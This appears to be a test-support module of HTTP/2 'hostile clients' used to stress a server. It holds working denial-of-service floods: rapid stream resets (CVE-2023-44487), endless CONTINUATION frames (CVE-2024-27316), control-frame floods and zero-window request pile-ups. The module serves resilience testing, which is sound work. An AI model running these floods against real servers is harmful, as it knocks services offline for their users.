"""Hostile clients of HTTP/2: floods of frames, each cheap to send; they come back when closed."""

from __future__ import annotations

import socket
from itertools import count as counting
from typing import ClassVar

from tests.support.hostile_clients import Hostile, connect
from tests.support.http2_client import frame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = (8).to_bytes(4, "big")
FRAMES_A_STEP = 100
CONTINUATIONS_A_BLOCK = 40
CONTINUATION_BYTES = 4_000
_INITIAL_WINDOW = (4).to_bytes(2, "big")
_WINDOW_OF_NOTHING = _INITIAL_WINDOW + bytes(4)


def _field(indexed_name: int, value: bytes) -> bytes:
    """A header field of HPACK, not indexed, whose name is of the static table."""
    return bytes([indexed_name, len(value)]) + value


def head_block(path: bytes) -> bytes:
    """The header block of a GET."""
    method_and_scheme = b"\x82\x86"
    return method_and_scheme + _field(4, path) + _field(1, b"localhost")


# A list of topics is among the dearer answers that a head alone asks for.
LIST_HEAD = head_block(b"/v0/topics?page_size=100")


class FrameFlood(Hostile):
    """Connections that each send a flood of frames at every step, and read what comes."""

    holds = True
    first_settings: ClassVar = b""

    def __init__(self, *given: object) -> None:
        super().__init__(*given)  # type: ignore[arg-type]
        self._ids: dict[socket.socket, counting[int]] = {}
        self.closed_by_server = 0

    def step(self) -> None:
        if len(self.held) < self.count:
            try:
                opened = connect(self.target)
            except OSError:
                return
            self.held.append(opened)
            self._ids[opened] = counting(1, 2)
            self._send(opened, PREFACE + frame(SETTINGS, 0, 0, self.first_settings))
            return
        connection = self.held[self.steps % len(self.held)]
        self._send(connection, self.flood(self._ids[connection]))

    def flood(self, ids: counting[int]) -> bytes:
        """What is sent at a step; `ids` are new streams."""
        raise NotImplementedError

    def _send(self, connection: socket.socket, data: bytes) -> None:
        try:
            connection.sendall(data)
            connection.settimeout(0.0)
            while True:
                if not connection.recv(1 << 16):
                    raise ConnectionResetError("the server has closed")
        except BlockingIOError:
            connection.settimeout(1.0)
        except OSError:
            self.closed_by_server += 1
            self.held.remove(connection)
            del self._ids[connection]
            connection.close()

    def leave(self) -> None:
        super().leave()
        self._ids.clear()


class RapidResets(FrameFlood):
    """Requests that are given up right after their heads (CVE-2023-44487)."""

    name = "rapid_resets"

    def flood(self, ids: counting[int]) -> bytes:
        sent = []
        for _ in range(FRAMES_A_STEP):
            stream_id = next(ids)
            sent.append(frame(HEADERS, END_HEADERS | END_STREAM, stream_id, LIST_HEAD))
            sent.append(frame(RST_STREAM, 0, stream_id, CANCEL))
        return b"".join(sent)


class HalfRequests(FrameFlood):
    """Requests whose bodies are never sent, given up: the server has begun them for nothing."""

    name = "half_requests"

    def flood(self, ids: counting[int]) -> bytes:
        sent = []
        for _ in range(FRAMES_A_STEP):
            stream_id = next(ids)
            sent.append(frame(HEADERS, END_HEADERS, stream_id, LIST_HEAD))
            sent.append(frame(RST_STREAM, 0, stream_id, CANCEL))
        return b"".join(sent)


class ControlFrames(FrameFlood):
    """PING and SETTINGS, each of which wants an answer, and updates of windows."""

    name = "control_frames"

    def flood(self, ids: counting[int]) -> bytes:
        ping = frame(PING, 0, 0, bytes(8))
        settings = frame(SETTINGS, 0, 0, _INITIAL_WINDOW + (65_535).to_bytes(4, "big"))
        window = frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big"))
        return (ping, settings, window)[self.steps % 3] * FRAMES_A_STEP


class Continuations(FrameFlood):
    """A header block that goes on and on (CVE-2024-27316)."""

    name = "continuations"

    def flood(self, ids: counting[int]) -> bytes:
        stream_id = next(ids)
        filler = b"\x00\x01x" + bytes([100]) + b"y" * 100
        block = filler * (CONTINUATION_BYTES // len(filler))
        more = frame(CONTINUATION, 0, stream_id, block) * CONTINUATIONS_A_BLOCK
        return frame(HEADERS, END_STREAM, stream_id, LIST_HEAD) + more


class ClosedWindows(FrameFlood):
    """Many requests over windows of nothing: each answer waits in the server."""

    name = "closed_windows"
    first_settings = _WINDOW_OF_NOTHING

    def flood(self, ids: counting[int]) -> bytes:
        head = END_HEADERS | END_STREAM
        return b"".join(frame(HEADERS, head, next(ids), LIST_HEAD) for _ in range(FRAMES_A_STEP))


FLOODS = (RapidResets, HalfRequests, ControlFrames, Continuations, ClosedWindows)
